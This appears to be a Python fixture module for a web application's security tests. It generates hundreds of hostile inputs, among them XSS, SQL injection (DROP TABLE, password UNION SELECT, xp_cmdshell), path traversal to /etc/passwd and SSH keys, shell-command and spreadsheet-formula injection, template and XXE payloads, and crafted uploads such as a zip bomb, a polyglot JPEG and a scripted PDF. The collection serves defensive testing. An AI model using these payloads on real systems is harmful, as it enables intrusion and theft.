"""A corpus of hostile inputs for the security suite: text for every form field, files for every
upload. Generated from categories (deterministic, no randomness) so that each category has many
variants; `TEXT` holds well over 500 distinct strings.

Markup payloads carry the marker `xss` so that a test can look for them unescaped in a page, and
the browser test can look for `window.__xss` (set by every script payload that would run).
"""

import io
import struct
import zipfile
import zlib

# --- text ---------------------------------------------------------------------------------------

# What a script payload does when it runs: set a flag the browser test reads, and open a dialog.
RUN = "window.__xss=1;alert(1)"

_XSS_TAGS = [
    f"<script>{RUN}</script>",
    f"<ScRiPt>{RUN}</sCrIpT>",
    f"<script src=data:,{RUN}></script>",
    f"<img src=x onerror={RUN}>",
    f'<img src="x" onerror="{RUN}">',
    f"<svg onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<body onload={RUN}>",
    f"<iframe src=javascript:{RUN}></iframe>",
    f'<iframe srcdoc="<script>{RUN}</script>"></iframe>',
    f"<details open ontoggle={RUN}>",
    f"<input autofocus onfocus={RUN}>",
    f"<video><source onerror={RUN}></video>",
    f"<audio src=x onerror={RUN}>",
    f"<marquee onstart={RUN}>xss</marquee>",
    f'<a href="javascript:{RUN}">xss</a>',
    f'<a href="JaVaScRiPt:{RUN}">xss</a>',
    f'<a href="&#106;avascript:{RUN}">xss</a>',
    f'<a href="data:text/html,<script>{RUN}</script>">xss</a>',
    f'<form action="javascript:{RUN}"><button>xss</button></form>',
    f'<math><mtext><table><mglyph><style><img src=x onerror="{RUN}">',
    f"<object data=javascript:{RUN}>",
    f"<embed src=javascript:{RUN}>",
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<link rel=import href="data:text/html,<script>alert(1)</script>">',
    "<base href=//evil.example/>",
    "<style>@import 'http://evil.example/xss.css';</style>",
    '<div style="background:url(javascript:alert(1))">xss</div>',
    f"<x contenteditable onblur={RUN}>xss</x>",
    f"<textarea autofocus onfocus={RUN}>",
    f"<select autofocus onfocus={RUN}>",
    f"<keygen autofocus onfocus={RUN}>",
    f"<isindex type=image src=1 onerror={RUN}>",
    f"<template><img src=x onerror={RUN}></template>",
    f'<noscript><p title="</noscript><img src=x onerror={RUN}>">',
]
# The same payloads after breaking out of an attribute, a tag, a textarea, a comment or a script
# string: echoed unescaped in those places they would run.
_BREAKOUTS = [
    "",
    '">',
    "'>",
    "</textarea>",
    "</title>",
    "-->",
    "</script>",
    '";',
    "';",
    "</option></select>",
]
_EVENT_ATTRIBUTES = [
    f'" onmouseover="{RUN}" x="',
    f"' onmouseover='{RUN}' x='",
    f'" autofocus onfocus="{RUN}" x="',
    f'" style="x:expression({RUN})" x="',
    f"`onmouseover={RUN}",
    f"javascript:{RUN}",
    f" javascript:{RUN}",
    f"java\tscript:{RUN}",
    "data:text/html;base64,PHNjcmlwdD53aW5kb3cuX194c3M9MTwvc2NyaXB0Pg==",
    "vbscript:msgbox(1)",
]
_SVG = [
    '<svg xmlns="http://www.w3.org/2000/svg"><script>window.__xss=1</script></svg>',
    '<svg><a xlink:href="javascript:alert(1)"><text>xss</text></a></svg>',
    '<svg><foreignObject><iframe src="javascript:alert(1)"></iframe></foreignObject></svg>',
    '<svg><set attributeName="onmouseover" to="alert(1)"/></svg>',
    '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"/></svg>',
]


def _xss():
    out = []
    for breakout in _BREAKOUTS:
        for tag in _XSS_TAGS:
            out.append(breakout + tag)
    out += _EVENT_ATTRIBUTES + _SVG
    # Encoded forms a careless decoder might turn back into markup.
    out += [
        "&lt;script&gt;window.__xss=1&lt;/script&gt;",
        "%3Cscript%3Ewindow.__xss%3D1%3C%2Fscript%3E",
        "\\u003cscript\\u003ewindow.__xss=1\\u003c/script\\u003e",
        "\\x3cscript\\x3ewindow.__xss=1\\x3c/script\\x3e",
        "+ADw-script+AD4-window.__xss=1+ADw-/script+AD4-",  # UTF-7
        "<scr<script>ipt>window.__xss=1</scr</script>ipt>",
        "<<script>script>window.__xss=1<</script>/script>",
    ]
    return out


_SQL = [
    "' OR '1'='1",
    "' OR 1=1 --",
    '" OR ""="',
    "') OR ('1'='1",
    "1; DROP TABLE reports_report; --",
    "'; DROP TABLE accounts_user; --",
    "1' UNION SELECT password, email FROM accounts_user --",
    "1 UNION ALL SELECT NULL,NULL,NULL--",
    "' AND SLEEP(5) --",
    "'; SELECT pg_sleep(5); --",
    "1' AND (SELECT COUNT(*) FROM sqlite_master) > 0 --",
    "'; COPY (SELECT '') TO PROGRAM 'id'; --",
    "admin'--",
    "%' OR '%'='",
    "\\'; --",
    "1e309",
    "-1",
    "0x7fffffffffffffff",
    "99999999999999999999999999999999",
    "NaN",
    "Infinity",
    "' || (SELECT secret FROM x) || '",
    "1' ORDER BY 100 --",
    "'; EXEC xp_cmdshell('dir'); --",
    "$where: '1 == 1'",
    '{"$gt": ""}',
]
_PATHS = [
    "../../../../etc/passwd",
    "..\\..\\..\\windows\\win.ini",
    "....//....//etc/passwd",
    "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
    "%252e%252e%252fetc%252fpasswd",
    "..%c0%af..%c0%afetc/passwd",
    "/etc/passwd",
    "file:///etc/passwd",
    "/proc/self/environ",
    "var/secret_key",
    "../var/secret_key",
    "C:\\boot.ini",
    "\\\\evil.example\\share\\x",
    "/dev/zero",
    "CON",
    "aux.txt",
    ".htaccess",
    "~/.ssh/id_rsa",
]
_CRLF = [
    "x\r\nSet-Cookie: sessionid=evil",
    "x\r\nLocation: https://evil.example/",
    "x%0d%0aSet-Cookie:%20evil=1",
    "x\nBcc: victim@evil.example",
    "a@test.example\r\nBcc: all@evil.example",
    "a@test.example%0aCc:evil@evil.example",
    "x\r\n\r\n<html>injected</html>",
    "x\u2028y\u2029z",
    "x\x85y",
    "x\rContent-Length: 0",
    "Subject: hi\r\n\r\nbody",
    "line1\r\nline2\r\nline3",
]
_TEMPLATES = [
    "{{7*7}}",
    "{{ 7*7 }}",
    "{{ settings.SECRET_KEY }}",
    "{{ request.META }}",
    "{% debug %}",
    "{% load log %}{% get_admin_log 10 as log %}",
    "{% include '/etc/passwd' %}",
    "{% csrf_token %}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{{ config.items() }}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "{{= 7*7}}",
    "[[${7*7}]]",
    "{$smarty.version}",
    "{{constructor.constructor('alert(1)')()}}",
    "{% raw %}{{x}}{% endraw %}",
]
_FORMATS = [
    "%s%s%s%s%s",
    "%n%n%n%n",
    "%x%x%x%x",
    "%(secret)s",
    "%(name)s %(partner)s %(count)d",
    "{0}{1}{2}",
    "{secret}",
    "{0.__class__}",
    "%",
    "%%",
    "%d",
    "%1$s",
    "{}",
    "{{}}",
]
_STRUCTURED = [
    '{"a": 1, "__proto__": {"admin": true}}',
    '{"a": "b"',
    "[" * 200 + "]" * 200,
    '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
    '<!DOCTYPE x [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;&a;">]><x>&b;</x>',
    "<![CDATA[<script>window.__xss=1</script>]]>",
    "*)(uid=*))(|(uid=*",
    "admin)(&(password=*)",
    "*()|&'",
    "=cmd|' /C calc'!A0",  # CSV / spreadsheet formula injection
    '=HYPERLINK("https://evil.example","klik")',
    "+SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "; ls -la",
    "| id",
    "`id`",
    "$(id)",
    "&& whoami",
    "https://evil.example/%2F..",
    "//evil.example",
    "javascript://%0aalert(1)",
]
_UNICODE = [
    "\u202egnp.exe",  # right-to-left override
    "\u202eevil\u202c",
    "abc\u2066def\u2069",
    "zero\u200bwidth\u200cjoin\u200d\ufeff",
    "\u2060word joiner",
    "Zoe\u0308",  # combining diaeresis
    "Z\u0351\u0352\u0353\u0354\u0355\u0356\u0357\u0358\u0359\u035a\u035b" * 20,  # zalgo
    "a\x00b",
    "\x00",
    "null\x00byte<script>",
    "\x01\x02\x03\x07\x08\x1b[31m",
    "\\ud800",  # a lone surrogate, escaped: the test client cannot send the real one
    "\\udfff",
    "\ud83d\ude00".encode("utf-16", "surrogatepass").decode("utf-16"),
    "👩‍⚕️ Zoë 🏳️‍🌈 𝕳𝖊𝖑𝖑𝖔",
    "🙂" * 500,
    "Ⅻ ﬁ ﹤script﹥",
    "аdmin@test.example",  # Cyrillic а
    "pаypаl.com",
    "ℌ𝔢𝔩𝔩𝔬 ＜script＞",
    "\uff1cscript\uff1ewindow.__xss=1\uff1c/script\uff1e",
    "İstanbul ǅ ß ẞ",
    "الرجل",  # Arabic
    "שלום",  # Hebrew
    "日本語のテキスト",
    "Ελληνικά",
    "Привіт",  # Ukrainian
    "Łódź Żółć",
    "ș ț ă î â",
    "България",
    "\u0000\u0000\u0000",
    "\ufffd\ufffe\uffff",
    "\U0010ffff",
    "tab\tand\vvertical\fform",
    "   leading and trailing   ",
    " ",
    "",
    "\n\n\n",
]
_SIZES = [
    "x" * 256,
    "x" * 1001,
    "x" * 2001,
    "x" * 5001,
    "x" * 10_001,
    "é" * 30_000,
    "<b>" * 20_000,
    "A" * 100_001,
    ("Lorem ipsum <script>window.__xss=1</script> " * 2600),  # 100 kB+ with markup
    "🙂" * 30_000,
    "\n" * 100_001,
]
_EMAILS = [
    "a@b",
    "@test.example",
    "a@",
    "a@@test.example",
    "a@test..example",
    '"<script>alert(1)</script>"@test.example',
    "a+<svg onload=alert(1)>@test.example",
    "a@test.example<script>",
    "x" * 300 + "@test.example",
    "a@[127.0.0.1]",
    "a@localhost",
    "A@TEST.EXAMPLE",
    "δοκιμή@παράδειγμα.δοκιμή",
    "a@test.example,b@test.example",
    "a@test.example; b@test.example",
]
_DATES_NUMBERS = [
    "2099-01-01",
    "1899-12-31",
    "0000-00-00",
    "2026-02-30",
    "31-12-2025",
    "9999-99-99",
    "2026-13-01T00:00",
    "-0",
    "1,5",
    "1.5e3",
    "0012",
    "١٢",  # Arabic-Indic digits
    "１２",  # full-width digits
    "12abc",
]


def _distinct(values):
    seen = set()
    out = []
    for value in values:
        if value not in seen:
            seen.add(value)
            out.append(value)
    return out


CATEGORIES = {
    "xss": _xss(),
    "sql": _SQL,
    "path": _PATHS,
    "crlf": _CRLF,
    "template": _TEMPLATES,
    "format": _FORMATS,
    "structured": _STRUCTURED,
    "unicode": _UNICODE,
    "size": _SIZES,
    "email": _EMAILS,
    "date_number": _DATES_NUMBERS,
}
# Interleaved, so that a rotation over a short stretch of the list mixes the categories.
TEXT = _distinct(
    value
    for row in range(max(len(v) for v in CATEGORIES.values()))
    for values in CATEGORIES.values()
    if row < len(values)
    for value in [values[row]]
)


def is_markup(value):
    """Would this value be dangerous if a page echoed it unescaped? (Django escapes each of these
    characters, so a raw occurrence in a page means the value was not escaped.)"""
    return any(char in value for char in "<>\"'")


# --- files --------------------------------------------------------------------------------------

EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"


def _png_chunk(kind, data):
    return (
        struct.pack(">I", len(data))
        + kind
        + data
        + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)
    )


def png_huge_dimensions():
    """A valid PNG header that claims 100000 x 100000 pixels (a decompression bomb)."""
    header = struct.pack(">IIBBBBB", 100_000, 100_000, 8, 2, 0, 0, 0)
    pixels = zlib.compress(b"\x00" * 1024)
    return (
        b"\x89PNG\r\n\x1a\n"
        + _png_chunk(b"IHDR", header)
        + _png_chunk(b"IDAT", pixels)
        + _png_chunk(b"IEND", b"")
    )


def jpeg_html_polyglot():
    """Starts like a JPEG, carries an HTML page in a comment segment."""
    html = b"<html><script>window.__xss=1;alert(1)</script></html>"
    comment = b"\xff\xfe" + struct.pack(">H", len(html) + 2) + html
    start = b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00"
    return start + comment + b"\xff\xd9"


def zip_bomb():
    """A small zip that unpacks to 50 MB of zeroes (also what a DOCX or XLSX is made of)."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", b"\x00" * 50 * 1024 * 1024)
    return buffer.getvalue()


PDF_WITH_JAVASCRIPT = (
    b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction 3 0 R>>endobj\n"
    b"2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\n"
    b"3 0 obj<</S/JavaScript/JS(app.alert('xss'))>>endobj\n"
    b"trailer<</Root 1 0 R>>\n%%EOF\n"
)
SVG_WITH_SCRIPT = (
    b'<svg xmlns="http://www.w3.org/2000/svg" onload="window.__xss=1">'
    b"<script>alert(1)</script></svg>"
)
HTML_PAGE = b"<!doctype html><script>window.__xss=1;alert(1)</script>"


def files():
    """(name, content type, bytes) of malicious uploads; built on demand (the zip bomb takes a
    moment to compress)."""
    return [
        ("photo.jpg", "image/jpeg", jpeg_html_polyglot()),
        ("drawing.svg", "image/svg+xml", SVG_WITH_SCRIPT),
        ("drawing.png", "image/png", SVG_WITH_SCRIPT),  # an SVG dressed as PNG
        ("brief.pdf", "application/pdf", PDF_WITH_JAVASCRIPT),
        (
            "bomb.docx",
            "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
            zip_bomb(),
        ),
        ("eicar.pdf", "application/pdf", EICAR),
        ("eicar.com", "application/octet-stream", EICAR),
        ("huge.png", "image/png", png_huge_dimensions()),
        ("page.html", "text/html", HTML_PAGE),
        ("page.jpg", "image/jpeg", HTML_PAGE),  # wrong extension
        ("run.exe.jpg", "image/jpeg", b"MZ\x90\x00" + b"\x00" * 60),
        ("../../../etc/passwd.jpg", "image/jpeg", jpeg_html_polyglot()),
        ("\u202egpj.exe", "image/jpeg", b"MZ\x90\x00"),
        ("<script>alert(1)</script>.pdf", "application/pdf", PDF_WITH_JAVASCRIPT),
        ("empty.pdf", "application/pdf", b""),
        ("data.csv", "text/csv", b"=cmd|' /C calc'!A0,<script>alert(1)</script>\n"),
    ]
